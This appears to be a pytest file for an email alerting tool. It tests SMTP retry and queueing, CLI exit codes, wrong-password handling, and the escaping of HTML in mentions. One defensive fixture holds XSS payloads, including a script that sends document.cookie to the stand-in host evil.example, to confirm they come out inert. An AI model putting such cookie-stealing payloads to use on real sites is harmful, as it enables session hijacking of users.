"""Email on a real local SMTP server: down then up gives one delivery; mention HTML stays inert."""

from __future__ import annotations

from datetime import timedelta
from email import policy
from email.parser import BytesParser

import pytest

from alerts.engine import check_alerts
from alerts.outgoing import flush_outgoing, mail_queue

pytestmark = pytest.mark.es

SPIKE = {"name": "neg", "type": "negative_spike"}


def smtp_section(server):
    return {
        "host": "127.0.0.1",
        "port": server.port,
        "security": "none",
        "username": "veille",
        "password_env": "VEILLE_TEST_SMTP_PASSWORD",
        "timeout": "5s",
        "retries": 1,
        "backoff": "0s",
    }


@pytest.fixture
def burst(history, now):
    history.steady(days=15, per_hour=4)
    history.burst(now - timedelta(minutes=55), 30)
    history.flush()


def test_smtp_down_then_up_delivers_exactly_once(burst, alert_config, smtp_server, monkeypatch, now):
    monkeypatch.setenv("VEILLE_TEST_SMTP_PASSWORD", "s3cret-pass")
    loaded = alert_config(SPIKE, smtp=smtp_section(smtp_server))

    report = check_alerts(loaded, now)  # the server is not started: connection refused
    assert len(report.notifications) == 1
    assert report.flush is not None and report.flush.failed == 1 and report.flush.sent == 0
    with mail_queue(loaded) as queue:
        assert queue.stats().pending == 1

    smtp_server.start()
    assert flush_outgoing(loaded).sent == 0  # not due yet: it waits its back-off
    assert flush_outgoing(loaded, due_only=False).sent == 1
    assert check_alerts(loaded, now + timedelta(minutes=1)).notifications == []
    assert flush_outgoing(loaded, due_only=False).sent == 0

    assert len(smtp_server.inbox.messages) == 1
    envelope = smtp_server.inbox.messages[0]
    assert envelope.rcpt_tos == ["cm@example.org"]
    delivered = BytesParser(policy=policy.default).parsebytes(envelope.original_content)
    assert delivered["Message-ID"] == report.notifications[0]["message_id"]
    assert delivered.get_body(("html",)) is not None and delivered.get_body(("plain",)) is not None


def test_cli_check_exits_non_zero_while_emails_wait(burst, alert_config, smtp_server, monkeypatch, now):
    from click.testing import CliRunner

    from veille.cli import cli

    monkeypatch.setenv("VEILLE_TEST_SMTP_PASSWORD", "s3cret-pass")
    loaded = alert_config(SPIKE, smtp={**smtp_section(smtp_server), "retries": 0})  # server down
    result = CliRunner().invoke(cli, ["-c", str(loaded.path), "alerts", "check", "--now", now.isoformat()])
    assert result.exit_code == 1, result.output
    assert "1 email(s) not delivered yet" in result.output


def test_a_wrong_password_keeps_the_message_queued(burst, alert_config, smtp_server, monkeypatch, now):
    monkeypatch.setenv("VEILLE_TEST_SMTP_PASSWORD", "wrong")
    smtp_server.start()
    # aiosmtpd leaves smtplib's second login mechanism hanging after a refusal: a short timeout.
    loaded = alert_config(SPIKE, smtp={**smtp_section(smtp_server), "timeout": "1s", "retries": 0})
    report = check_alerts(loaded, now)
    assert report.flush is not None and report.flush.failed == 1
    assert smtp_server.inbox.messages == []
    monkeypatch.setenv("VEILLE_TEST_SMTP_PASSWORD", "s3cret-pass")
    assert flush_outgoing(loaded, due_only=False).sent == 1
    assert len(smtp_server.inbox.messages) == 1


def test_html_in_mentions_is_rendered_harmless(history, alert_config, now):
    history.steady(days=15, per_hour=4)
    history.burst(
        now - timedelta(minutes=55), 30,
        title='<img src=x onerror="alert(1)">Panne',
        text="Velora <script>document.location='https://evil.example/'+document.cookie</script> panne",
    )  # fmt: skip
    history.flush()
    loaded = alert_config(SPIKE)
    check_alerts(loaded, now)
    (path,) = loaded.outbox_dir.glob("*.eml")
    msg = BytesParser(policy=policy.default).parsebytes(path.read_bytes())
    html = msg.get_body(("html",)).get_content()
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;" in html and "&lt;img src=x onerror=" in html
    text = msg.get_body(("plain",)).get_content()
    assert "<script>" in text  # plain text is not interpreted: shown as written
